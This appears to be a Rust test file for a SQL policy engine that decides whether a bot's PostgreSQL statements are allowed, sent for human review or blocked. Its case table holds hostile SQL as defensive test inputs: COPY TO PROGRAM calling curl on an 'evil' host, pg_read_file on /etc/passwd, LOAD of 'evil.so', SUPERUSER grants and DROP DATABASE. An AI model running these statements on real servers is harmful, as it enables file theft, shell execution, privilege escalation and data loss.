@@ -1,0 +1,458 @@
+//! Table-driven tests of the built-in policy and of configured rules.
+
+use super::*;
+use countersign_bot::{Identity, IdentityKind, RequesterChain};
+
+use Action::{Allow, Block, Review};
+
+fn agent() -> RequesterChain {
+    RequesterChain(vec![
+        Identity {
+            issuer: "https://idp".into(),
+            subject: "deploy-bot".into(),
+            email: None,
+            kind: IdentityKind::Workload,
+            groups: vec!["bots".into()],
+        },
+        Identity {
+            issuer: "https://idp".into(),
+            subject: "alice".into(),
+            email: Some("alice@example.com".into()),
+            kind: IdentityKind::Human,
+            groups: vec!["contractors".into()],
+        },
+    ])
+}
+
+/// `(sql, expected action, expected kind of some statement or substring of a reason)`.
+const CASES: &[(&str, Action, &str)] = &[
+    // Empty and comments
+    ("", Allow, "EMPTY"),
+    ("   ;  ; ", Allow, "EMPTY"),
+    ("-- just a comment", Allow, "EMPTY"),
+    ("/* DELETE */ SELECT 1", Allow, "SELECT"),
+    ("SELECT 1; -- DROP TABLE t", Allow, "SELECT"),
+    ("SELECT 1 /* ; DROP DATABASE x */", Allow, "read-only query"),
+    // Plain reads
+    ("SELECT 1", Allow, "SELECT"),
+    ("select * from orders where id = 1", Allow, "SELECT"),
+    ("SELECT abalance FROM pgbench_accounts WHERE aid = 42;", Allow, "SELECT"),
+    ("VALUES (1), (2)", Allow, "SELECT"),
+    ("TABLE orders", Allow, "TABLE"),
+    ("TABLE orders; DELETE FROM orders", Review, "DELETE without WHERE on orders"),
+    ("SELECT count(*), max(id), avg(x) FROM t GROUP BY y ORDER BY 1", Allow, "SELECT"),
+    ("SELECT now(), current_timestamp, version(), current_database(), pg_backend_pid()", Allow, "SELECT"),
+    ("SELECT lower(name), upper(name), coalesce(a, b), length(s) FROM users", Allow, "SELECT"),
+    ("SELECT date_trunc('day', created), to_char(created, 'YYYY') FROM t", Allow, "SELECT"),
+    ("SELECT data->>'a', data #> '{b}', jsonb_build_object('k', 1) FROM docs", Allow, "SELECT"),
+    ("SELECT string_agg(name, ','), array_agg(id) FROM t", Allow, "SELECT"),
+    ("SELECT 'a'::regclass, 1::text, CAST(x AS int) FROM t", Allow, "SELECT"),
+    ("SELECT $1, $2", Allow, "SELECT"),
+    ("SELECT * FROM a JOIN b ON a.id = b.id LEFT JOIN c USING (id)", Allow, "SELECT"),
+    ("SELECT * FROM t WHERE id IN (SELECT id FROM u)", Allow, "SELECT"),
+    ("WITH x AS (SELECT 1) SELECT * FROM x", Allow, "SELECT"),
+    ("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM r WHERE n < 5) SELECT * FROM r", Allow, "SELECT"),
+    ("SELECT 1 UNION SELECT 2 EXCEPT SELECT 3", Allow, "SELECT"),
+    ("SELECT \"Ünïcode\" FROM \"Weird \"\"Table\"\"\"", Allow, "SELECT"),
+    ("SELECT 'héllo wörld ✓', '日本語'", Allow, "SELECT"),
+    ("SELECT $tag$ DELETE FROM t; $tag$", Allow, "SELECT"),
+    ("SELECT $$ DROP DATABASE x $$", Allow, "SELECT"),
+    ("SELECT E'it\\'s'", Allow, "SELECT"),
+    ("SELECT random(), round(1.5), abs(-1)", Allow, "SELECT"),
+    ("SELECT * FROM generate_series(1, 10) g", Allow, "SELECT"),
+    ("SELECT x FROM t ORDER BY lower(x) LIMIT 5 OFFSET 2", Allow, "SELECT"),
+    // psql catalog queries (\d, \dt)
+    ("SELECT c.oid, n.nspname, c.relname FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relname OPERATOR(pg_catalog.~) '^(t)$' COLLATE pg_catalog.default AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 2, 3", Allow, "SELECT"),
+    ("SELECT n.nspname as \"Schema\", c.relname as \"Name\", pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p','') AND n.nspname <> 'pg_catalog' AND pg_catalog.pg_table_is_visible(c.oid) ORDER BY 1,2", Allow, "SELECT"),
+    ("SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod), (SELECT pg_catalog.pg_get_expr(d.adbin, d.adrelid, true) FROM pg_catalog.pg_attrdef d WHERE d.adrelid = a.attrelid AND d.adnum = a.attnum AND a.atthasdef), a.attnotnull FROM pg_catalog.pg_attribute a WHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum", Allow, "SELECT"),
+    // SHOW, EXPLAIN
+    ("SHOW search_path", Allow, "SHOW"),
+    ("SHOW ALL", Allow, "SHOW"),
+    ("EXPLAIN SELECT * FROM t", Allow, "EXPLAIN"),
+    ("EXPLAIN DELETE FROM orders", Allow, "does not run the DELETE"),
+    ("EXPLAIN UPDATE t SET a = 1", Allow, "EXPLAIN"),
+    ("EXPLAIN ANALYZE DELETE FROM orders", Review, "EXPLAIN ANALYZE executes the DELETE"),
+    ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM orders WHERE id = 1", Review, "DELETE"),
+    ("EXPLAIN (ANALYZE false) DELETE FROM orders", Allow, "EXPLAIN"),
+    ("EXPLAIN ANALYZE SELECT 1", Allow, "SELECT"),
+    ("EXPLAIN ANALYZE SELECT pg_read_file('/etc/passwd')", Block, "server file access"),
+    // Transaction control and session
+    ("BEGIN", Allow, "BEGIN"),
+    ("BEGIN ISOLATION LEVEL REPEATABLE READ", Allow, "transaction control"),
+    ("START TRANSACTION READ ONLY", Allow, "START TRANSACTION"),
+    ("COMMIT", Allow, "COMMIT"),
+    ("END", Allow, "COMMIT"),
+    ("ROLLBACK", Allow, "ROLLBACK"),
+    ("SAVEPOINT a", Allow, "SAVEPOINT"),
+    ("RELEASE SAVEPOINT a", Allow, "RELEASE"),
+    ("ROLLBACK TO SAVEPOINT a", Allow, "ROLLBACK"),
+    ("SET search_path = public", Allow, "SET"),
+    ("SET SESSION search_path TO public, \"$user\"", Allow, "harmless"),
+    ("SET LOCAL statement_timeout = '5s'", Allow, "SET"),
+    ("SET application_name TO 'pgbench'", Allow, "SET"),
+    ("SET client_encoding TO 'UTF8'", Allow, "SET"),
+    ("SET DateStyle = ISO", Allow, "SET"),
+    ("SET extra_float_digits = 3", Allow, "SET"),
+    ("SET TIME ZONE 'UTC'", Allow, "SET"),
+    ("SET TimeZone = 'UTC'", Allow, "SET"),
+    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", Allow, "SET"),
+    ("RESET ALL", Allow, "RESET"),
+    ("DISCARD ALL", Allow, "DISCARD"),
+    ("LISTEN jobs", Allow, "LISTEN"),
+    ("UNLISTEN *", Allow, "UNLISTEN"),
+    ("SET ROLE admin", Review, "SET ROLE changes the session identity"),
+    ("RESET ROLE", Review, "identity"),
+    ("SET SESSION AUTHORIZATION bob", Review, "SESSION AUTHORIZATION"),
+    ("SET role = 'postgres'", Review, "identity"),
+    ("SET work_mem = '1GB'", Review, "not on the harmless list"),
+    ("SET session_replication_role = replica", Review, "not on the harmless list"),
+    ("SELECT set_config('role', 'postgres', false)", Review, "set_config('role'"),
+    ("SELECT set_config('session_authorization', 'postgres', false)", Review, "identity"),
+    ("SELECT set_config('search_path', 'public', false)", Allow, "SELECT"),
+    ("SELECT set_config(name, 'x', false) FROM settings", Review, "set_config"),
+    ("NOTIFY jobs, 'go'", Review, "NOTIFY"),
+    ("SELECT pg_notify('jobs', 'go')", Review, "pg_notify"),
+    // Data changes
+    ("INSERT INTO orders (id) VALUES (1)", Review, "INSERT"),
+    ("UPDATE orders SET paid = true WHERE id = 1", Review, "UPDATE"),
+    ("UPDATE orders SET paid = true", Review, "UPDATE without WHERE on orders"),
+    ("DELETE FROM orders WHERE id = 1", Review, "DELETE"),
+    ("DELETE FROM orders", Review, "DELETE without WHERE on orders"),
+    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", Review, "MERGE"),
+    ("TRUNCATE orders", Review, "TRUNCATE"),
+    ("SELECT 1; DELETE FROM t", Review, "DELETE without WHERE on t"),
+    ("UPDATE pgbench_accounts SET abalance = abalance + -1234 WHERE aid = 42;", Review, "UPDATE"),
+    ("UPDATE pgbench_tellers SET tbalance = tbalance + -1234 WHERE tid = 7;", Review, "UPDATE"),
+    ("UPDATE pgbench_branches SET bbalance = bbalance + -1234 WHERE bid = 1;", Review, "UPDATE"),
+    ("INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (7, 1, 42, -1234, CURRENT_TIMESTAMP);", Review, "INSERT"),
+    ("INSERT INTO t SELECT * FROM u", Review, "INSERT"),
+    ("INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 2", Review, "INSERT"),
+    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", Review, "data-modifying DELETE inside WITH"),
+    ("WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) SELECT id FROM u", Review, "inside WITH"),
+    ("WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT 1", Review, "INSERT inside WITH"),
+    ("SELECT * INTO t2 FROM t", Review, "SELECT INTO creates a table"),
+    ("SELECT * FROM t FOR UPDATE", Review, "locking read"),
+    ("SELECT * FROM t FOR SHARE", Review, "locking read"),
+    ("SELECT * FROM t FOR NO KEY UPDATE", Review, "could not be parsed"),
+    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", Review, "LOCK"),
+    ("COPY t TO STDOUT", Allow, "COPY"),
+    ("COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)", Allow, "COPY TO STDOUT"),
+    ("COPY t FROM STDIN", Review, "COPY FROM writes data"),
+    // Functions
+    ("SELECT nextval('orders_id_seq')", Review, "changes a sequence"),
+    ("SELECT setval('s', 1)", Review, "changes a sequence"),
+    ("SELECT pg_sleep(1)", Review, "pg_sleep"),
+    ("SELECT my_func(1)", Review, "calls my_func: not on the read-only function list"),
+    ("SELECT public.lower('x')", Review, "public.lower"),
+    ("SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)", Review, "dblink"),
+    ("SELECT dblink_exec('host=x', 'DROP TABLE t')", Review, "runs SQL on another server"),
+    ("SELECT query_to_xml('DELETE FROM t', true, true, '')", Review, "runs the SQL text"),
+    ("SELECT lo_from_bytea(0, 'x')", Review, "large object"),
+    ("SELECT pg_terminate_backend(123)", Review, "terminates another session"),
+    ("SELECT * FROM t ORDER BY my_rank(x)", Review, "my_rank"),
+    ("SELECT CAST(my_conv(x) AS int) FROM t", Review, "my_conv"),
+    ("VALUES (nextval('s'))", Review, "nextval"),
+    ("WITH x AS (SELECT nextval('s')) SELECT * FROM x", Review, "nextval"),
+    ("SELECT * FROM t WHERE id = (SELECT max(id) FROM u WHERE v = unknown_fn())", Review, "unknown_fn"),
+    ("SELECT * FROM t, LATERAL (SELECT evil(t.id)) s", Review, "evil"),
+    // Server file access: block anywhere
+    ("SELECT pg_read_file('/etc/passwd')", Block, "calls pg_read_file: server file access"),
+    ("SELECT * FROM pg_read_file('/etc/passwd')", Block, "pg_read_file"),
+    ("SELECT * FROM t WHERE x IN (SELECT pg_read_file('/etc/passwd'))", Block, "server file access"),
+    ("SELECT * FROM t, LATERAL pg_ls_dir('.') d", Block, "pg_ls_dir"),
+    ("SELECT * FROM t, LATERAL (SELECT pg_stat_file('x')) s", Block, "pg_stat_file"),
+    ("WITH f AS (SELECT pg_read_binary_file('x')) SELECT * FROM f", Block, "pg_read_binary_file"),
+    ("SELECT pg_catalog.pg_read_file('x')", Block, "server file access"),
+    ("SELECT lo_import('/etc/passwd')", Block, "lo_import"),
+    ("SELECT lo_export(1, '/tmp/x')", Block, "lo_export"),
+    ("SELECT 1 ORDER BY pg_ls_dir('.')", Block, "pg_ls_dir"),
+    ("SELECT pg_read_file('x')::text", Block, "pg_read_file"),
+    ("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))", Block, "pg_read_file"),
+    ("CREATE TABLE t2 AS SELECT pg_read_file('/etc/passwd')", Block, "pg_read_file"),
+    ("INSERT INTO t VALUES (pg_read_file('x'))", Block, "pg_read_file"),
+    ("EXPLAIN SELECT pg_read_file('x')", Block, "pg_read_file"),
+    ("SELECT 1; SELECT pg_ls_dir('/')", Block, "pg_ls_dir"),
+    // COPY with server files / programs
+    ("COPY t TO PROGRAM 'curl http://evil'", Block, "PROGRAM runs a shell command"),
+    ("COPY t FROM PROGRAM 'id'", Block, "PROGRAM"),
+    ("COPY (SELECT 1) TO PROGRAM 'x'", Block, "PROGRAM"),
+    ("COPY t FROM '/etc/passwd'", Block, "server file '/etc/passwd'"),
+    ("COPY t TO '/tmp/out.csv'", Block, "server file"),
+    // DDL, privileges, roles
+    ("CREATE TABLE t (id int DEFAULT nextval('s'), b text)", Review, "nextval"),
+    ("CREATE TABLE t (id int)", Review, "CREATE TABLE"),
+    ("CREATE INDEX i ON t (a)", Review, "CREATE INDEX"),
+    ("ALTER TABLE t ADD COLUMN c int", Review, "ALTER TABLE"),
+    ("DROP TABLE t", Review, "DROP TABLE"),
+    ("DROP DATABASE x", Block, "DROP DATABASE destroys"),
+    ("DROP DATABASE x WITH (FORCE)", Block, "DROP DATABASE"),
+    ("ALTER SYSTEM SET work_mem = '1GB'", Block, "ALTER SYSTEM"),
+    ("GRANT SELECT ON t TO bob", Review, "changes privileges"),
+    ("REVOKE SELECT ON t FROM bob", Review, "changes privileges"),
+    ("CREATE ROLE x SUPERUSER", Block, "grants SUPERUSER"),
+    ("CREATE USER x SUPERUSER", Block, "grants SUPERUSER"),
+    ("ALTER USER x WITH SUPERUSER", Block, "grants SUPERUSER"),
+    ("ALTER ROLE x WITH SUPERUSER", Block, "grants SUPERUSER"),
+    ("CREATE ROLE x LOGIN", Review, "CREATE ROLE"),
+    ("ALTER ROLE x WITH NOSUPERUSER", Review, "ALTER ROLE"),
+    ("CREATE FUNCTION f() RETURNS int AS 'evil.so', 'f' LANGUAGE C", Block, "loads code from the server filesystem"),
+    ("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", Review, "CREATE FUNCTION"),
+    ("LOAD 'evil.so'", Block, "LOAD"),
+    ("CREATE EXTENSION dblink", Review, "CREATE EXTENSION"),
+    ("COMMENT ON TABLE t IS 'x'", Review, "COMMENT"),
+    ("REFRESH MATERIALIZED VIEW v", Review, "REFRESH"),
+    // Procedures, prepared statements, maintenance
+    ("CALL do_things()", Review, "CALL runs procedure do_things"),
+    ("PREPARE s AS SELECT 1", Review, "PREPARE"),
+    ("EXECUTE s", Review, "EXECUTE"),
+    ("DO $$ BEGIN DELETE FROM t; END $$", Review, "DO"),
+    ("VACUUM t", Review, "VACUUM"),
+    ("VACUUM ANALYZE t", Review, "VACUUM"),
+    ("REINDEX TABLE t", Review, "REINDEX"),
+    ("CLUSTER t", Review, "CLUSTER"),
+    ("CHECKPOINT", Review, "CHECKPOINT"),
+    ("ANALYZE t", Review, "ANALYZE"),
+    // Garbage fails closed
+    ("this is not sql", Review, "could not be parsed"),
+    ("SELECT FROM WHERE", Review, "could not be parsed"),
+    ("SELECT 'unterminated", Review, "cannot be tokenized"),
+    ("DROP DATABASE x; SELECT 'unterminated", Block, "DROP DATABASE"),
+    ("SELECT 1; frobnicate", Review, "FROBNICATE"),
+    ("ALTER SYSTEM SET x = 1; SELECT 1", Block, "ALTER SYSTEM"),
+];
+
+fn verdict_of(sql: &str) -> Verdict {
+    let chain = agent();
+    Policy::builtin().evaluate(&PolicyContext { connection: "prod-main", requester: &chain }, sql)
+}
+
+#[test]
+fn builtin_policy_classifies_the_statement_table() {
+    assert!(CASES.len() >= 100, "only {} cases", CASES.len());
+    let mut failures = Vec::new();
+    for (sql, action, expect) in CASES {
+        let v = verdict_of(sql);
+        let kind_hit = v.statements.iter().any(|s| s.kind == *expect);
+        let reason_hit = v.reasons.iter().any(|r| r.contains(expect));
+        if v.action != *action || !(kind_hit || reason_hit) {
+            failures.push(format!(
+                "{sql:?}: expected {action:?} with {expect:?}, got {:?} kinds {:?} reasons {:?}",
+                v.action,
+                v.statements.iter().map(|s| s.kind.as_str()).collect::<Vec<_>>(),
+                v.reasons
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
+}
+
+#[test]
+fn unparsable_statements_are_never_allowed() {
+    for (sql, _, _) in CASES {
+        for s in verdict_of(sql).statements {
+            assert!(!(s.unparsed && s.action == Allow), "{sql:?} allowed while unparsed");
+        }
+    }
+}
+
+#[test]
+fn facts_list_tables_functions_and_missing_where() {
+    let v = verdict_of("DELETE FROM Public.Orders");
+    assert_eq!(v.statements[0].tables, vec!["public.orders"]);
+    assert!(v.statements[0].missing_where);
+    let v = verdict_of("SELECT lower(a) FROM t WHERE b IN (SELECT nextval('s') FROM u)");
+    assert_eq!(v.statements[0].tables, vec!["t", "u"]);
+    assert_eq!(v.statements[0].functions, vec!["lower", "nextval"]);
+    let v = verdict_of("SELECT * FROM pg_read_file('x')");
+    assert!(v.statements[0].tables.is_empty(), "a table function is not a table");
+    assert_eq!(v.statements[0].functions, vec!["pg_read_file"]);
+}
+
+#[test]
+fn several_statements_take_the_strictest_and_keep_one_entry_each() {
+    let v = verdict_of("SELECT 1; DELETE FROM t WHERE id = 1; COPY t TO PROGRAM 'x'");
+    assert_eq!(v.action, Block);
+    assert_eq!(v.statements.len(), 3);
+    assert_eq!(v.statements[0].action, Allow);
+    assert_eq!(v.statements[1].action, Review);
+    assert!(v.reasons[0].contains("PROGRAM"), "{:?}", v.reasons);
+    assert!(v.review.is_none());
+}
+
+#[test]
+fn verdict_serializes_with_the_documented_fields() {
+    let v = verdict_of("DELETE FROM orders");
+    let json = serde_json::to_value(&v).unwrap();
+    assert_eq!(json["action"], "review");
+    assert_eq!(json["rule"], "default");
+    assert_eq!(json["review"]["quorum"], 2);
+    assert_eq!(json["review"]["ttl_secs"], 3600);
+    assert_eq!(json["statements"][0]["kind"], "DELETE");
+    assert_eq!(json["statements"][0]["missing_where"], true);
+    assert!(json["reasons"][0].as_str().unwrap().contains("orders"));
+    let allowed = serde_json::to_value(verdict_of("SELECT 1")).unwrap();
+    assert!(allowed.get("review").is_none());
+}
+
+#[test]
+fn repeated_sql_is_served_from_the_cache() {
+    let policy = Policy::builtin();
+    let chain = agent();
+    let ctx = PolicyContext { connection: "c", requester: &chain };
+    let a = policy.evaluate(&ctx, "SELECT 1");
+    let b = policy.evaluate(&ctx, "SELECT 1");
+    policy.evaluate(&ctx, "SELECT 2");
+    assert_eq!(a, b);
+    assert_eq!(policy.cache_stats(), (1, 2));
+}
+
+// ---- configured rules ----
+
+fn rule(name: &str, action: &str) -> PolicyRule {
+    PolicyRule {
+        name: name.into(),
+        connections: None,
+        kinds: None,
+        tables: None,
+        missing_where: None,
+        requesters: None,
+        requester_groups: None,
+        action: action.into(),
+        approver_groups: Some(vec!["dba".into()]),
+        quorum: None,
+        ttl: None,
+    }
+}
+
+fn eval(rules: Vec<PolicyRule>, connection: &str, chain: &RequesterChain, sql: &str) -> Verdict {
+    let policy = Policy::new(rules, PolicyDefaults::default()).unwrap();
+    policy.evaluate(&PolicyContext { connection, requester: chain }, sql)
+}
+
+#[test]
+fn first_matching_rule_wins() {
+    let rules = vec![
+        PolicyRule { kinds: Some(vec!["delete".into()]), ..rule("block-deletes", "block") },
+        PolicyRule { kinds: Some(vec!["DELETE".into()]), ..rule("allow-deletes", "allow") },
+    ];
+    let v = eval(rules, "prod", &agent(), "DELETE FROM t WHERE id = 1");
+    assert_eq!(v.action, Block);
+    assert_eq!(v.rule, "block-deletes");
+}
+
+#[test]
+fn connection_and_table_globs_select_the_rule() {
+    let rules = vec![PolicyRule {
+        connections: Some(vec!["prod-*".into()]),
+        tables: Some(vec!["public.users".into(), "orders*".into()]),
+        ..rule("prod-tables", "block")
+    }];
+    let chain = agent();
+    assert_eq!(eval(rules.clone(), "prod-eu", &chain, "UPDATE orders_2024 SET a = 1 WHERE id = 1").action, Block);
+    assert_eq!(eval(rules.clone(), "prod-eu", &chain, "DELETE FROM users WHERE id = 1").action, Block);
+    assert_eq!(eval(rules.clone(), "staging", &chain, "DELETE FROM users WHERE id = 1").action, Review);
+    assert_eq!(eval(rules, "prod-eu", &chain, "DELETE FROM invoices WHERE id = 1").action, Review);
+}
+
+#[test]
+fn allow_rule_table_glob_matches_only_the_name_as_written() {
+    let rules = vec![PolicyRule { tables: Some(vec!["public.reports".into()]), ..rule("reports", "allow") }];
+    let chain = agent();
+    assert_eq!(eval(rules.clone(), "c", &chain, "INSERT INTO public.reports VALUES (1)").action, Allow);
+    assert_eq!(eval(rules, "c", &chain, "INSERT INTO reports VALUES (1)").action, Review);
+}
+
+#[test]
+fn missing_where_rule_matches_only_unbounded_writes() {
+    let rules = vec![PolicyRule { missing_where: Some(true), ..rule("no-unbounded", "block") }];
+    let chain = agent();
+    let v = eval(rules.clone(), "c", &chain, "DELETE FROM orders");
+    assert_eq!((v.action, v.rule.as_str()), (Block, "no-unbounded"));
+    assert_eq!(eval(rules, "c", &chain, "DELETE FROM orders WHERE id = 1").action, Review);
+}
+
+#[test]
+fn requester_globs_and_groups_match_anyone_in_the_chain() {
+    let by_email = vec![PolicyRule { requesters: Some(vec!["*@example.com".into()]), ..rule("people", "block") }];
+    let by_subject = vec![PolicyRule { requesters: Some(vec!["deploy-*".into()]), ..rule("bots", "block") }];
+    let by_group = vec![PolicyRule { requester_groups: Some(vec!["Contractors".into()]), ..rule("contractors", "block") }];
+    let nobody = vec![PolicyRule { requesters: Some(vec!["*@other.org".into()]), ..rule("other", "block") }];
+    let chain = agent();
+    let sql = "UPDATE t SET a = 1 WHERE id = 1";
+    assert_eq!(eval(by_email, "c", &chain, sql).rule, "people");
+    assert_eq!(eval(by_subject, "c", &chain, sql).rule, "bots");
+    assert_eq!(eval(by_group, "c", &chain, sql).rule, "contractors");
+    let v = eval(nobody, "c", &chain, sql);
+    assert_eq!((v.action, v.rule.as_str()), (Review, "default"));
+}
+
+#[test]
+fn rule_may_relax_review_to_allow_for_parsed_statements() {
+    let rules = vec![PolicyRule { kinds: Some(vec!["INSERT".into()]), ..rule("inserts-ok", "allow") }];
+    let v = eval(rules, "c", &agent(), "INSERT INTO t VALUES (1)");
+    assert_eq!((v.action, v.rule.as_str()), (Allow, "inserts-ok"));
+    assert!(v.review.is_none());
+}
+
+#[test]
+fn rule_cannot_allow_an_unparsed_statement() {
+    let rules = vec![rule("allow-everything", "allow")];
+    let v = eval(rules, "c", &agent(), "DO $$ BEGIN PERFORM 1; END $$");
+    assert_eq!((v.action, v.rule.as_str()), (Review, "default"));
+    assert!(v.reasons.iter().any(|r| r.contains("allow-everything") && r.contains("never allowed")), "{:?}", v.reasons);
+}
+
+#[test]
+fn rule_cannot_relax_a_builtin_block() {
+    let rules = vec![rule("allow-everything", "allow")];
+    let chain = agent();
+    for sql in ["COPY t TO PROGRAM 'x'", "ALTER SYSTEM SET a = 1", "SELECT pg_read_file('x')"] {
+        let v = eval(rules.clone(), "c", &chain, sql);
+        assert_eq!(v.action, Block, "{sql}");
+        assert!(v.reasons.iter().any(|r| r.contains("cannot be relaxed")), "{sql}: {:?}", v.reasons);
+    }
+    let v = eval(vec![rule("review-everything", "review")], "c", &chain, "DROP DATABASE x");
+    assert_eq!(v.action, Block);
+}
+
+#[test]
+fn rule_may_make_an_allowed_statement_stricter() {
+    let rules = vec![PolicyRule { tables: Some(vec!["secrets".into()]), ..rule("secrets", "review") }];
+    let v = eval(rules, "c", &agent(), "SELECT * FROM secrets");
+    assert_eq!((v.action, v.rule.as_str()), (Review, "secrets"));
+    assert_eq!(v.review.unwrap().approver_groups, vec!["dba"]);
+}
+
+#[test]
+fn review_requirements_merge_across_statements() {
+    let rules = vec![
+        PolicyRule {
+            kinds: Some(vec!["DELETE".into()]),
+            approver_groups: Some(vec!["dba".into()]),
+            quorum: Some(3),
+            ttl: Some("2h".into()),
+            ..rule("deletes", "review")
+        },
+        PolicyRule {
+            kinds: Some(vec!["UPDATE".into()]),
+            approver_groups: Some(vec!["leads".into(), "dba".into()]),
+            quorum: Some(1),
+            ttl: Some("10m".into()),
+            ..rule("updates", "review")
+        },
+    ];
+    let v = eval(rules, "c", &agent(), "DELETE FROM t WHERE id = 1; UPDATE t SET a = 1 WHERE id = 2; SELECT 1");
+    assert_eq!(v.action, Review);
+    assert_eq!(v.rule, "deletes");
+    assert_eq!(
+        v.review,
+        Some(ReviewRequirement { approver_groups: vec!["dba".into(), "leads".into()], quorum: 3, ttl_secs: 600 })
+    );
+}
+
+#[test]
+fn invalid_rules_are_reported_by_policy_new() {
+    let err = Policy::new(vec![rule("x", "deny")], PolicyDefaults::default()).unwrap_err();
+    assert_eq!(err.key(), "action");
+    assert!(err.to_string().contains("policy.rules[0]"));
+}
